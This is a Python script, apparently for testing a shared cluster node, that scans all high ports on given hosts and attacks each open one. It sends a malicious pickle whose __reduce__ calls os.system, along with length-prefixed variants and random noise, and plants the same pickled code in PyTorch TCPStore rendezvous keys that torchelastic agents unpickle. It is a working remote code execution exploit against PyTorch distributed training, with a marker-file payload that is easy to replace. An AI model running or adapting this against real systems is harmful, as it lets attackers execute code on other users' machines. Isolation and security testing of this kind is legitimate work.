"""What another user does to a node's ports: code in pickles, keys in stores, noise. It prints the ports it found."""

from __future__ import annotations

import os
import pickle
import select
import socket
import sys
import threading
from contextlib import suppress
from datetime import timedelta

from torch.distributed import TCPStore  # type: ignore[attr-defined]

# What agents of torch's c10d backend unpickle, and what gathers of objects do.
KEYS = ("torch.rendezvous.none", "torch.rendezvous.dray", "torchelastic/role_info0", "dray/torchelastic/role_info0")


class Code:
    """A pickle that runs a command where it is read."""

    def __reduce__(self) -> tuple[object, ...]:
        return os.system, ("touch /shared/home/pwned",)


def listening(host: str) -> list[int]:
    found = []
    for port in range(1024, 65536):
        with socket.socket() as line:
            line.settimeout(0.5)
            if line.connect_ex((host, port)) == 0:
                found.append(port)
    return found


def attack(host: str, port: int) -> None:
    code = pickle.dumps(Code())
    for sent in (code, len(code).to_bytes(8, "little") + code, b'{"node": 1, "time": "x"}\n', os.urandom(4096)):
        with suppress(OSError), socket.create_connection((host, port), timeout=2) as line:
            line.sendall(sent)
            select.select([line], [], [], 0.2)
    with suppress(Exception):  # a port that is no store may never answer
        store = TCPStore(host, port, is_master=False, timeout=timedelta(seconds=5))
        for key in KEYS:
            store.set(key, code)


if __name__ == "__main__":
    threads = []
    for host in sys.argv[1:]:
        ports = listening(host)
        print(host, *ports, flush=True)
        threads += [threading.Thread(target=attack, args=(host, port), daemon=True) for port in ports]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(15 / len(threads))
    os._exit(0)
